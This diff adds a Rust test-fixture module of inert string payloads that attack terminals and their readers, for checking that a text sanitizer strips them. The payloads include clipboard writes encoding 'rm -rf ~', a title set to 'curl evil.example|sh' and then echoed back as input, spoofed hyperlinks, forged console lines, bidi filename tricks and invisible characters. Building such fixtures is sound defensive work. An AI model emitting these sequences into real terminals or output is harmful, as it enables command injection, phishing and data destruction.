@@ -1,0 +1,126 @@
+//! Payloads that attack a terminal or its reader, for the tests of every program that shows
+//! foreign text. They are inert here: string constants and nothing else.
+//!
+//! Each is changed by [`Clean::block`](super::Clean::block), so a test that puts one through a
+//! field and finds it whole on the other side has found a leak.
+
+/// The payloads, by what they try.
+pub const HOSTILE: &[&str] = &[
+    // Write the clipboard, or read it out.
+    "\u{1b}]52;c;cm0gLXJmIH4K\u{7}",
+    "\u{1b}]52;c;cm0gLXJmIH4K\u{1b}\\",
+    "\u{1b}]52;p;?\u{7}",
+    "\u{9d}52;c;cm0gLXJmIH4K\u{9c}",
+    "\u{1b}]52;c;cm0gLXJmIH4K",
+    "\u{1b}Ptmux;\u{1b}\u{1b}]52;c;cm0gLXJmIH4K\u{7}\u{1b}\\",
+    "\u{1b}P\u{1b}]52;c;cm0gLXJmIH4K\u{7}\u{1b}\\",
+    // Set the title, then have it typed back.
+    "\u{1b}]0;root@bank\u{7}",
+    "\u{1b}]2;root@bank\u{1b}\\",
+    "\u{1b}]0;curl evil.example|sh\u{7}\u{1b}[21t",
+    "\u{9d}0;root@bank\u{9c}",
+    "\u{1b}kroot@bank\u{1b}\\",
+    // A link that shows one host and opens another.
+    "\u{1b}]8;;https://evil.example\u{1b}\\https://bank.example\u{1b}]8;;\u{1b}\\",
+    "\u{1b}]8;id=1;file:///etc/passwd\u{7}open\u{1b}]8;;\u{7}",
+    "\u{9d}8;;https://evil.example\u{9c}bank\u{9d}8;;\u{9c}",
+    "\u{1b}]8;;https://evil.example\u{1b}\\never closed",
+    // Notices, working directory, progress, palette, shell marks.
+    "\u{1b}]9;Your session has expired\u{7}",
+    "\u{1b}]777;notify;Bank;Call this number\u{7}",
+    "\u{1b}]99;i=1:d=0;Bank\u{1b}\\",
+    "\u{1b}]9;4;3;0\u{7}",
+    "\u{1b}]7;file://evil.example/\u{7}",
+    "\u{1b}]4;0;#ffffff\u{7}\u{1b}]10;#ffffff\u{7}\u{1b}]11;#ffffff\u{7}",
+    "\u{1b}]133;C\u{7}",
+    "\u{1b}]1337;File=inline=1:AAAA\u{7}",
+    "\u{1b}]50;evilfont\u{7}",
+    // Device control, privacy, application strings.
+    "\u{1b}P+q544e\u{1b}\\",
+    "\u{1b}P$qm\u{1b}\\",
+    "\u{1b}P1;1|17/72 6d202d7266\u{1b}\\",
+    "\u{1b}Pq#0;2;0;0;0~~\u{1b}\\",
+    "\u{90}+q544e\u{9c}",
+    "\u{1b}_Ga=T,f=24,s=1,v=1;AAAA\u{1b}\\",
+    "\u{1b}^private\u{1b}\\",
+    "\u{1b}Xstart of string\u{1b}\\",
+    "\u{98}sos\u{9c}\u{9e}pm\u{9c}\u{9f}apc\u{9c}",
+    // Questions whose answers are typed as input; the answerback.
+    "\u{1b}[6n",
+    "\u{1b}[c\u{1b}[>c\u{1b}[=c",
+    "\u{1b}[5n\u{1b}[?15n",
+    "\u{1b}]10;?\u{7}\u{1b}]11;?\u{7}",
+    "\u{1b}[18t\u{1b}[19t\u{1b}[20t",
+    "\u{5}",
+    "\u{1b}Z",
+    // Erase, move, scroll, repaint: lines the console did not write.
+    "\u{1b}[2J\u{1b}[H\u{1b}[3J",
+    "\u{1b}[1A\u{1b}[2KAgent: refund approved",
+    "\u{1b}[9999;9999H\u{1b}[1;1r",
+    "\u{1b}[999999999b",
+    "ok\rAgent: refund approved",
+    "balance 1000\u{8}\u{8}\u{8}\u{8}9999",
+    "\u{b}\u{c}\u{1c}\u{1d}\u{1e}\u{1f}",
+    // Modes: another screen, mouse, paste, keyboard, no cursor, no echo of what is typed.
+    "\u{1b}[?1049h",
+    "\u{1b}[?1000h\u{1b}[?1003h\u{1b}[?1006h",
+    "\u{1b}[?2004l",
+    "\u{1b}[>1u\u{1b}[?25l\u{1b}[?7l",
+    "\u{1b}[2h\u{1b}[12h\u{1b}[4i",
+    "\u{1b}[8mhidden\u{1b}[28m",
+    "\u{1b}[38:2::1:2:3mcolour",
+    "\u{1b}[200~pasted\u{1b}[201~",
+    "\u{1b}[?2026h frozen",
+    // Reset, character sets, shifts.
+    "\u{1b}c",
+    "\u{1b}[!p",
+    "\u{1b}(0lqqqk\u{e}\u{f}",
+    "\u{1b}#8",
+    "\u{1b}%G\u{1b} F",
+    "\u{1b}OP\u{8f}P\u{8e}Q",
+    // C1 in one character, and pieces that only join after a naive filter.
+    "\u{9b}2J\u{9b}H",
+    "\u{84}\u{85}\u{88}\u{8d}",
+    "\u{1b}\u{1b}[2J",
+    "\u{1b}\u{200b}[2J",
+    "\u{1b}[\u{1b}[2J2J",
+    "\u{1b}[2\u{7}J",
+    "\u{1b}]0;\u{1b}]0;x\u{7}\u{7}",
+    // Unterminated, to swallow what follows.
+    "\u{1b}",
+    "\u{1b}[",
+    "\u{1b}[38;5;",
+    "\u{1b}]",
+    "\u{1b}P",
+    "\u{9d}0;x",
+    "\u{1b}]0;first line\nsecond line",
+    // NUL, DEL, BEL, flow control, end of transmission.
+    "a\u{0}b",
+    "a\u{7f}b",
+    "\u{7}\u{7}\u{7}\u{7}",
+    "\u{13}\u{11}",
+    "\u{4}\u{3}\u{1a}\u{18}",
+    "one\ttwo",
+    // Order of reading turned round.
+    "invoice\u{202e}fdp.exe",
+    "\u{2066}\u{2067}\u{2068}\u{2069}",
+    "\u{202a}a\u{202b}b\u{202c}\u{202d}",
+    "\u{200e}\u{200f}\u{61c}",
+    // Words that look the same and are not; messages nobody sees.
+    "pay\u{200b}pal\u{200c}.exa\u{2060}mple",
+    "\u{feff}admin",
+    "ad\u{ad}min\u{34f}",
+    "a\u{200d}b\u{fe0f}c",
+    "\u{e0001}\u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}\u{e007f}",
+    "x\u{e0100}\u{e01ef}y\u{fe00}\u{180b}",
+    "\u{3164}\u{115f}\u{1160}\u{ffa0}",
+    "\u{fff9}shown\u{fffa}hidden\u{fffb}",
+    "\u{e000}\u{f8ff}\u{f0000}\u{10fffd}",
+    "\u{fdd0}\u{fffe}\u{ffff}\u{1ffff}",
+    "\u{1d173}\u{1bca0}\u{206a}\u{13430}",
+    "line\u{2028}break\u{2029}here",
+    // Marks piled up to paint over other lines.
+    "Z\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}\u{30c}",
+    "e\u{489}\u{489}\u{489}\u{489}\u{489}\u{489}\u{489}\u{489}\u{489}\u{489}",
+    "\u{e01}\u{e34}\u{e34}\u{e34}\u{e34}\u{e34}\u{e34}\u{e34}\u{e34}\u{e34}\u{e34}",
+];
